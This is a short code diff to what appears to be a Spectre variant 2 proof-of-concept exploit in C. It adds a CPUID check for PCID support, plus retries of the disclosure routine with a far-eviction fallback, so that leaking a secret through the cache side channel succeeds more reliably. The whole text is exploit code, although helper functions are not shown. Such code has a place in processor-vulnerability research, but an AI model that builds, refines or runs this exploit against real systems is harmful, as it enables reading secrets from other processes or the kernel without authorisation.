@@ -5,6 +5,8 @@
  */
 #include "spectre-v2.h"
 
+#include <cpuid.h>
+
 static const uint8_t *branches[MOST_ADDRESSES];
 static uint64_t disclosure;
 
@@ -26,6 +28,19 @@ static int read_byte(uint64_t address)
 	return call_with(address);
 }
 
+/*
+ * Whether translations of several address spaces live side by side (PCID). Otherwise a kernel with page
+ * tables of its own empties the translation buffers at each system call, and the last cache is too near
+ * for the walks to the code, the secret and the probe.
+ */
+static int keeps_translations(void)
+{
+	enum { PROCESSOR_INFORMATION = 1, PCID = 1 << 17 };
+	unsigned int eax, ebx, ecx, edx;
+
+	return __get_cpuid(PROCESSOR_INFORMATION, &eax, &ebx, &ecx, &edx) && ecx & PCID;
+}
+
 int main(int argc, char **argv)
 {
 	int known_was_read;
@@ -38,6 +53,10 @@ int main(int argc, char **argv)
 	known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
 	if (!known_was_read) {
 		forgets = 1;
+		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
+	}
+	if (!known_was_read && !keeps_translations()) {
+		pages_to_evict = prepare_far_eviction();
 		known_was_read = choose_disclosure(choose, read_byte, array + SHARED_KNOWN);
 	}
 	recover(sample, patience_if(known_was_read), 1);
